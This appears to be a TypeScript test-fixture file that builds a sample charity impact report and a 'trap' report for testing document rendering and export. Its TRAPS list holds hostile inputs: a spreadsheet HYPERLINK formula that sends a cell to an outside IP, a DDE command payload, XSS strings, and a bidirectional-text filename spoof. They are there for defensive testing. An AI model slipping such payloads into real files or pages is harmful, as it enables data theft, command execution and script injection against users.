/** Papers for tests of documents: one with every kind of part, like that of the look book, and one full of traps. */

import type { Paper, PaperColumn, PaperSection, PaperTable } from "../domain/impact/paper";

const text = (key: string, label: string): PaperColumn => ({
  key,
  label,
  type: "text",
  about: `${label}, by name.`,
});
const people = (key: string, label: string, about: string): PaperColumn => ({
  key,
  label,
  type: "people",
  about,
});

const needs: PaperTable = {
  name: "needs-by-domain",
  caption: "People who brought a need, by kind of need",
  columns: [
    text("need", "Kind of need"),
    people("brought", "People", "People who brought such a need in the period."),
    people("resolved", "Resolved", "People with such a need resolved at the end of the period."),
    {
      key: "share",
      label: "Share resolved",
      type: "percent",
      about: "Resolved, of the people who brought it.",
    },
  ],
  rows: [
    ["Money and debt", 310, 105, 34],
    ["Benefits", 265, 95, 36],
    ["Housing", 190, 60, 32],
    ["Basic needs", 145, 110, 76],
    ["Mental health", 120, 25, 21],
    ["Work", 70, 20, 29],
    ["Family and relationships", 35, 10, 29],
    ["Immigration", "few", null, null],
  ],
};

const bars = needs.rows.map(([label, whole, part]) => ({
  label: String(label),
  whole: typeof whole === "number" ? whole : null,
  part: typeof part === "number" ? part : null,
  note: typeof part === "number" ? `${part} resolved` : "",
}));

const change: PaperTable = {
  name: "confidence",
  caption: "How sure people felt, first and latest answer",
  columns: [
    text("answer", "Answer"),
    people("people", "People", "People who answered twice or more."),
    { key: "mean", label: "Mean", type: "score", about: "Mean of their answers, 0 to 10." },
    { key: "difference", label: "Difference", type: "score", about: "Latest less first." },
  ],
  rows: [
    ["First answer", 95, 3.9, null],
    ["Latest answer", 95, 5.6, -1.7],
  ],
};

const deciles: PaperTable = {
  name: "deprivation",
  caption: "People by tenth of small areas, beside homes in our area",
  columns: [
    text("tenth", "Tenth"),
    people("people", "People", "People who live in such a small area."),
    { key: "share", label: "Share of people", type: "percent", about: "Of the people with a known tenth." },
    { key: "homes", label: "Share of homes", type: "percent", about: "Of the homes in our area." },
  ],
  rows: Array.from({ length: 10 }, (_, at) => [
    `${at + 1}`,
    at === 9 ? "few" : 165 - at * 15,
    at === 9 ? null : 35 - at * 3.5,
    22 - at * 2,
  ]),
};

const waits: PaperTable = {
  name: "time-to-resolution",
  caption: "Needs still open, by days since the first contact",
  columns: [
    text("after", "After"),
    { key: "days", label: "Days", type: "days", about: "Days since the first contact about the need." },
    {
      key: "open",
      label: "Still open",
      type: "percent",
      about: "Share of needs still open after so many days.",
    },
  ],
  rows: [
    ["Start", 0, 100],
    ["A month", 30, 71.5],
    ["Two months", 60, 48],
    ["Three months", 90, 40],
  ],
};

const quarters: PaperTable = {
  name: "people-by-quarter",
  caption: "People helped, by quarter",
  columns: [text("quarter", "Quarter"), people("people", "People", "People with a contact in the quarter.")],
  rows: [
    ["July to September 2025", 400],
    ["October to December 2025", 1_425],
    ["January to March 2026", "few"],
    ["April to June 2026", 450],
    ["July to September 2026", 485],
  ],
};

const costs: PaperTable = {
  name: "value",
  caption: "What such help is thought to be worth",
  columns: [
    text("what", "What"),
    people("people", "People", "People whom it was counted for."),
    { key: "low", label: "Low", type: "money", about: "Lower end of the range, in pounds." },
    { key: "high", label: "High", type: "money", about: "Upper end of the range, in pounds." },
  ],
  rows: [
    ["Eviction prevented", 60, 156_000, 212_400.5],
    ["Debt written off", 105, 0, 98_700],
  ],
};

const section = (
  key: PaperSection["key"],
  title: string,
  rest: Partial<PaperSection> & Pick<PaperSection, "blocks">,
): PaperSection => ({
  key,
  title,
  text: `What is said first under ${title}.`,
  edited: false,
  notes: [],
  ...rest,
});

/** A paper like the one of the look book, with every kind of part, chart and column. */
export function samplePaper(): Paper {
  return {
    audience: "trustees",
    basis: "figures",
    from: "Wear Advice, money advice",
    period: "July to September 2026",
    title: "We helped 485 people, mostly with money, benefits and keeping a home",
    titleEdited: false,
    lead: "July to September 2026. More than one in three of the needs people brought were resolved by the end of September. One in four were not ours to resolve, so we passed them on.",
    leadEdited: true,
    headlines: [
      { value: "485", what: "people helped", note: "each counted once" },
      { value: "37%", what: "of needs resolved", note: "425 of 1,140" },
      { value: "130", what: "referrals completed", note: "of 180 sent; half within 9 days" },
      { value: "56%", what: "from the most deprived fifth", note: "265 of 470 with a postcode; area: 38%" },
    ],
    sections: [
      section("needs", "What people needed help with", {
        text: "Most people came about money and debt (310 people), then benefits (265) and housing (190).\nOne person can have more than one need, so the bars add to more than 485.",
        blocks: [
          {
            kind: "chart",
            name: "needs-by-domain",
            title: "Money and debt brought most people",
            says: "Of the 310 people who came about money and debt, 105 had it resolved by 30 September.",
            chart: {
              kind: "bars",
              whole: "people who brought it",
              part: "resolved",
              unit: "number of people",
              bars,
            },
            table: needs,
          },
        ],
        notes: [
          { term: "Resolved", means: "means a worker and the person agreed it was sorted." },
          { term: "Against the same months last year", means: "money and debt up 85, housing down 10." },
        ],
      }),
      section("time", "How long it took", {
        edited: true,
        blocks: [
          {
            kind: "chart",
            name: "time-to-resolution",
            title: "Half of the needs were resolved within 58 days",
            says: "Half of the needs were resolved within 58 days; after three months two in five were still open.",
            chart: {
              kind: "survival",
              points: [
                { days: 0, share: 1, low: 1, high: 1 },
                { days: 30, share: 0.715, low: 0.67, high: 0.76 },
                { days: 58, share: 0.5, low: 0.45, high: 0.55 },
                { days: 90, share: 0.4, low: 0.35, high: 0.45 },
              ],
              median: 58,
              across: "days since the first contact",
              up: "share still open",
            },
            table: waits,
          },
        ],
        notes: [{ term: "Half within", means: "is the middle of all needs, those still open among them." }],
      }),
      section("change", "How confident people felt with money", {
        blocks: [
          {
            kind: "chart",
            name: "confidence",
            title: "Up by 1.7 points out of 10, on average",
            says: "Likely between 1.3 and 2.1. From the 95 people who answered twice; 390 did not.",
            chart: {
              kind: "slope",
              first: { label: "First answer", value: 3.9, low: 3.5, high: 4.3 },
              latest: { label: "Latest answer", value: 5.6, low: 5.2, high: 6 },
              lowest: 0,
              highest: 10,
              unit: "points",
            },
            table: change,
          },
        ],
        notes: [
          {
            term: "People who come back",
            means: "may differ from those who do not. This shows change, not that we caused it.",
          },
        ],
      }),
      section("places", "Who we reached", {
        blocks: [
          {
            kind: "chart",
            name: "deprivation",
            title: "35% of the people we helped live in the most deprived tenth",
            says: "Homes in our area are spread more evenly: 22% of them are in the most deprived tenth.",
            chart: {
              kind: "profile",
              bars: deciles.rows.map(([label, , share, against]) => ({
                label: String(label),
                share: typeof share === "number" ? share / 100 : null,
                against: typeof against === "number" ? against / 100 : null,
              })),
              from: "Most deprived tenth",
              to: "Least deprived",
              against: "homes in our area",
            },
            table: deciles,
          },
          {
            kind: "chart",
            name: "people-by-quarter",
            title: "A little more people than a year before",
            says: "485 people against 400 in the same months of 2025.",
            chart: {
              kind: "timeline",
              unit: "people",
              points: quarters.rows.map(([label, value], at) => ({
                label: String(label).slice(0, 3),
                group: String(label).slice(-4),
                value: typeof value === "number" ? value : null,
                marked: at === 4,
              })),
            },
            table: quarters,
          },
        ],
        notes: [
          {
            term: "Tenths",
            means: "of small areas in England. Index of Multiple Deprivation, 2025 edition.",
          },
        ],
      }),
      section("value", "What it may be worth", {
        blocks: [
          { kind: "table", title: "An estimate, with its range", table: costs },
          { kind: "words", words: ["These amounts are estimates and are not part of the outcomes above."] },
        ],
      }),
      section("stories", "One person’s story", {
        text: "",
        blocks: [
          {
            kind: "story",
            quote: [
              "“I had stopped opening the post. Now I know what I owe, what I pay each week, and who to ring.”",
            ],
            who: "Someone we helped with debts this summer.",
            consent: "Shared with written consent, 2 October 2026.",
          },
        ],
        notes: [{ term: "Age, sex and place", means: "are left out so that nobody can guess who it is." }],
      }),
    ],
    counted: [
      "Each person counts once, however many times we met.",
      "Figures are rounded to 5 and carry a small planned error.",
    ],
    limits: ["What would have happened without us.", "Needs that nobody told us about."],
    foot: "Counted on 24 November 2026, definitions edition 3.",
    countedOn: "2026-11-24",
    version: { number: 2, changes: ["People helped: 485, was 480."] },
  };
}

/** What people and their enemies call things: each stands in a paper of traps as a name, a heading and a cell. */
export const TRAPS = [
  '=HYPERLINK("http://203.0.113.9/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1;2)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "<script>alert(1)</script>",
  '</title></style><img src=x onerror="alert(1)">',
  "]]>&amp;<!-- {{2}} %s",
  "Safe\u202Egnp.exe\u2066 and \u200Bturned",
  "Null\u0000 bell\u0007 and half \uD83D",
  "👩‍👩‍👧‍👦 Families 🏳️‍🌈",
  "Ośrodek Łódź – żółć",
  "Canolfan Gŵyr a’r Ŷd",
  "مركز الأمل للمساعدة",
  "Κέντρο, Центр, מרכז התקווה",
  "希望中心 আশা",
  "  two  spaces  ",
  "few",
] as const;

/** The sample with every name of it a trap, and texts as long as they may be. */
export function trapPaper(): Paper {
  const paper = samplePaper();
  const table: PaperTable = {
    name: "needs-by-domain",
    caption: TRAPS[8],
    columns: [
      text("need", TRAPS[0]),
      people("people", TRAPS[7], TRAPS[9]),
      people("others", TRAPS[15], TRAPS[1]),
    ],
    rows: TRAPS.map((trap, at) => [trap, at % 3 === 0 ? "few" : at * 1_000, at % 3 === 1 ? null : -at]),
  };
  const [first, ...rest] = paper.sections;
  if (!first) throw new Error("The sample has a section");
  return {
    ...paper,
    basis: "exact",
    from: TRAPS[8],
    title: TRAPS[7],
    lead: "letters".repeat(171),
    headlines: TRAPS.slice(10, 15).map((trap) => ({ value: trap, what: trap, note: trap })),
    sections: [
      {
        ...first,
        title: TRAPS[15],
        text: TRAPS.join("\n"),
        blocks: [
          {
            kind: "chart",
            name: "needs-by-domain",
            title: TRAPS[0],
            says: "x".repeat(1_200),
            chart: {
              kind: "bars",
              whole: TRAPS[7],
              part: TRAPS[16],
              unit: TRAPS[8],
              bars: TRAPS.map((trap) => ({ label: trap, whole: 10, part: 5, note: trap })),
            },
            table,
          },
        ],
        notes: TRAPS.map((trap) => ({ term: trap, means: trap })),
      },
      ...rest.map((section, at) => ({ ...section, title: `${TRAPS[12]} ${at}`, text: "word ".repeat(240) })),
    ],
    counted: TRAPS,
    limits: TRAPS,
    version: { number: 2, changes: TRAPS },
  };
}
